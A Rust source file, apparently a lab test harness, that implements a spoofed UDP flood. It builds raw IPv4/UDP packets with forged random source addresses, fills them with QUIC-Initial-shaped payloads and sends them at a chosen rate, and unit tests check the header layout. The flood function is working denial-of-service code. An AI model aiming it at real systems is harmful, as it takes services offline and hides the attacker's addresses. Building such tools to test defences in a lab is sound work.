//! A spoofed UDP flood: datagrams with forged random source addresses and
//! ports, written with their IPv4 header through a raw socket. It stands in
//! for an attacker that floods a gateway's UDP port with QUIC Initials from
//! addresses it does not hold (which is why it needs CAP_NET_RAW, in a lab
//! namespace).

use std::{
    fmt, io,
    net::{Ipv4Addr, SocketAddr, SocketAddrV4},
    str::FromStr,
    thread,
    time::{Duration, Instant},
};

use rand::Rng;
use socket2::{Domain, Protocol, SockAddr, Socket, Type};

const IP_HEADER: usize = 20;
const UDP_HEADER: usize = 8;
/// Bytes of random data the flood's payloads are cut from.
const POOL: usize = 64 * 1024;

/// An IPv4 prefix such as 198.51.100.0/24 (host bits of `base` are ignored).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Ipv4Net {
    pub base: Ipv4Addr,
    pub prefix_len: u8,
}

impl Ipv4Net {
    fn mask(&self) -> u32 {
        u32::MAX
            .checked_shl(32 - u32::from(self.prefix_len))
            .unwrap_or(0)
    }

    /// A random address inside the prefix; for /30 and wider, never the
    /// network or broadcast address.
    pub fn random_addr(&self, rng: &mut impl Rng) -> Ipv4Addr {
        let mask = self.mask();
        let net = u32::from(self.base) & mask;
        loop {
            let host = rng.random::<u32>() & !mask;
            if self.prefix_len > 30 || (host != 0 && host != !mask) {
                return Ipv4Addr::from(net | host);
            }
        }
    }
}

impl FromStr for Ipv4Net {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, String> {
        let (ip, len) = s.split_once('/').unwrap_or((s, "32"));
        let base = ip.parse().map_err(|e| format!("{s:?}: {e}"))?;
        let prefix_len = len
            .parse()
            .ok()
            .filter(|l| *l <= 32)
            .ok_or_else(|| format!("{s:?}: the prefix length must be 0 to 32"))?;
        Ok(Ipv4Net { base, prefix_len })
    }
}

impl fmt::Display for Ipv4Net {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}/{}", self.base, self.prefix_len)
    }
}

/// The Internet checksum (RFC 1071) of an IPv4 header whose checksum field
/// is zero: written into the field, it makes the header sum to 0xffff.
pub fn ipv4_checksum(header: &[u8]) -> u16 {
    let mut sum: u32 = header
        .chunks(2)
        .map(|c| u32::from(u16::from_be_bytes([c[0], c.get(1).copied().unwrap_or(0)])))
        .sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// Writes an IPv4 + UDP datagram from `src` to `dst` into `buf`, whose
/// length is the whole packet; the payload (after 28 bytes) must be filled
/// already. UDP checksum 0 means "none", which IPv4 allows.
pub fn write_headers(buf: &mut [u8], src: SocketAddrV4, dst: SocketAddrV4, ip_id: u16) {
    let total = buf.len() as u16;
    let ip = &mut buf[..IP_HEADER];
    ip[0] = 0x45; // version 4, 5 words of header
    ip[1] = 0; // DSCP / ECN
    ip[2..4].copy_from_slice(&total.to_be_bytes());
    ip[4..6].copy_from_slice(&ip_id.to_be_bytes());
    ip[6..8].copy_from_slice(&0x4000u16.to_be_bytes()); // don't fragment
    ip[8] = 64; // TTL
    ip[9] = 17; // UDP
    ip[10..12].fill(0);
    ip[12..16].copy_from_slice(&src.ip().octets());
    ip[16..20].copy_from_slice(&dst.ip().octets());
    let sum = ipv4_checksum(ip);
    ip[10..12].copy_from_slice(&sum.to_be_bytes());
    let udp = &mut buf[IP_HEADER..IP_HEADER + UDP_HEADER];
    udp[0..2].copy_from_slice(&src.port().to_be_bytes());
    udp[2..4].copy_from_slice(&dst.port().to_be_bytes());
    udp[4..6].copy_from_slice(&(total - IP_HEADER as u16).to_be_bytes());
    udp[6..8].fill(0);
}

/// Random bytes shaped like a QUIC v1 long-header Initial (RFC 9000 17.2.2):
/// first byte 0xc0 with random reserved and packet-number-length bits,
/// version 1, an 8-byte DCID and an 8-byte SCID, the rest random. Shorter
/// buffers get as much of that as fits.
pub fn fill_quic_initial(payload: &mut [u8], rng: &mut impl Rng) {
    rng.fill(payload);
    shape_quic_initial(payload, rng);
}

/// Overwrites the first 23 bytes of `payload` (or fewer) with a random
/// QUIC v1 Initial long header, as [`fill_quic_initial`] describes.
fn shape_quic_initial(payload: &mut [u8], rng: &mut impl Rng) {
    let mut head = [0u8; 23];
    rng.fill(&mut head[..]);
    head[0] = 0xc0 | (head[0] & 0x0f);
    head[1..5].copy_from_slice(&1u32.to_be_bytes());
    head[5] = 8; // DCID length, then 8 random bytes
    head[14] = 8; // SCID length, then 8 random bytes
    let n = head.len().min(payload.len());
    payload[..n].copy_from_slice(&head[..n]);
}

/// Sends `pps` datagrams a second for `secs` seconds to `target`, each from a
/// random address in `from` and a random port (1024 and up), with a `size`-byte
/// UDP payload (see [`fill_quic_initial`]). Blocking: run it on a thread or
/// with `spawn_blocking`. Needs CAP_NET_RAW; without it the socket error is
/// returned. Returns how many datagrams the kernel took.
pub fn spoofed_flood(
    target: SocketAddrV4,
    from: Ipv4Net,
    pps: u64,
    secs: f64,
    size: usize,
) -> io::Result<u64> {
    let invalid = |what: &str| io::Error::new(io::ErrorKind::InvalidInput, what.to_string());
    if size > usize::from(u16::MAX) - IP_HEADER - UDP_HEADER {
        return Err(invalid("payload too large for one IPv4 datagram"));
    }
    if pps == 0 || !secs.is_finite() || secs < 0.0 {
        return Err(invalid(
            "pps must be positive and secs a non-negative number",
        ));
    }
    // IPPROTO_RAW implies IP_HDRINCL: we write the IP header ourselves.
    let sock = Socket::new(
        Domain::IPV4,
        Type::RAW,
        Some(Protocol::from(libc::IPPROTO_RAW)),
    )
    .map_err(|e| io::Error::new(e.kind(), format!("raw socket (needs CAP_NET_RAW): {e}")))?;
    let _ = sock.set_send_buffer_size(4 << 20);
    let dest = SockAddr::from(SocketAddr::V4(target));
    let mut rng = rand::rng();
    // Random tails come from a random offset into a pool filled once: a
    // debug build cannot draw 24 MB/s of fresh random bytes.
    let mut pool = vec![0u8; POOL + size];
    rng.fill(&mut pool[..]);
    let mut packet = vec![0u8; IP_HEADER + UDP_HEADER + size];
    let (start, length) = (Instant::now(), Duration::from_secs_f64(secs));
    let mut sent = 0u64;
    while start.elapsed() < length {
        // Send what is due by now (a few at a time, so the end is on time).
        let due = (start.elapsed().as_secs_f64() * pps as f64) as u64 + 1;
        if sent >= due {
            thread::sleep(Duration::from_secs_f64(1.0 / pps as f64).min(Duration::from_millis(1)));
            continue;
        }
        for _ in 0..(due - sent).min(64) {
            let src = SocketAddrV4::new(from.random_addr(&mut rng), rng.random_range(1024..=65535));
            let off = rng.random_range(0..POOL);
            let payload = &mut packet[IP_HEADER + UDP_HEADER..];
            payload.copy_from_slice(&pool[off..off + size]);
            shape_quic_initial(payload, &mut rng);
            write_headers(&mut packet, src, target, rng.random());
            match sock.send_to(&packet, &dest) {
                Ok(_) => sent += 1,
                // A full device queue: drop this one, as a NIC would.
                Err(e) if e.raw_os_error() == Some(libc::ENOBUFS) => {}
                Err(e) if e.kind() == io::ErrorKind::Interrupted => {}
                Err(e) => return Err(e),
            }
        }
    }
    Ok(sent)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn checksum_matches_a_known_header() {
        // The example header from Wikipedia's "IPv4 header checksum".
        let mut h = [
            0x45, 0x00, 0x00, 0x73, 0x00, 0x00, 0x40, 0x00, 0x40, 0x11, 0x00, 0x00, 0xc0, 0xa8,
            0x00, 0x01, 0xc0, 0xa8, 0x00, 0xc7,
        ];
        assert_eq!(ipv4_checksum(&h), 0xb861);
        h[10..12].copy_from_slice(&0xb861u16.to_be_bytes());
        assert_eq!(ipv4_checksum(&h), 0, "a correct header sums to all ones");
    }

    #[test]
    fn headers_and_payload_are_well_formed() {
        let mut rng = rand::rng();
        let mut p = vec![0u8; 28 + 1200];
        fill_quic_initial(&mut p[28..], &mut rng);
        let src: SocketAddrV4 = "198.51.100.7:40000".parse().unwrap();
        let dst: SocketAddrV4 = "203.0.113.10:9905".parse().unwrap();
        write_headers(&mut p, src, dst, 0x1234);
        assert_eq!(ipv4_checksum(&p[..20]), 0);
        assert_eq!((p[0], p[8], p[9]), (0x45, 64, 17));
        assert_eq!(u16::from_be_bytes([p[2], p[3]]), 1228);
        assert_eq!(&p[12..16], &[198, 51, 100, 7]);
        assert_eq!(&p[16..20], &[203, 0, 113, 10]);
        assert_eq!(u16::from_be_bytes([p[20], p[21]]), 40000);
        assert_eq!(u16::from_be_bytes([p[22], p[23]]), 9905);
        assert_eq!(u16::from_be_bytes([p[24], p[25]]), 1208);
        assert_eq!(&p[26..28], &[0, 0]);
        let q = &p[28..];
        assert_eq!(q[0] & 0xf0, 0xc0, "long header, fixed bit, type Initial");
        assert_eq!(&q[1..5], &[0, 0, 0, 1]);
        assert_eq!((q[5], q[14]), (8, 8));
        let mut short = [0u8; 3];
        fill_quic_initial(&mut short, &mut rng); // must not panic
    }

    #[test]
    fn prefixes_parse_and_contain_their_addresses() {
        let net: Ipv4Net = "198.51.100.0/24".parse().unwrap();
        let mut rng = rand::rng();
        for _ in 0..1000 {
            let o = net.random_addr(&mut rng).octets();
            assert_eq!(&o[..3], &[198, 51, 100]);
            assert!(o[3] != 0 && o[3] != 255);
        }
        let one: Ipv4Net = "10.0.0.9".parse().unwrap();
        assert_eq!(one.random_addr(&mut rng), Ipv4Addr::new(10, 0, 0, 9));
        let all: Ipv4Net = "0.0.0.0/0".parse().unwrap();
        let _ = all.random_addr(&mut rng);
        assert!("10.0.0.0/33".parse::<Ipv4Net>().is_err());
        assert!("10.0.0/8".parse::<Ipv4Net>().is_err());
    }
}
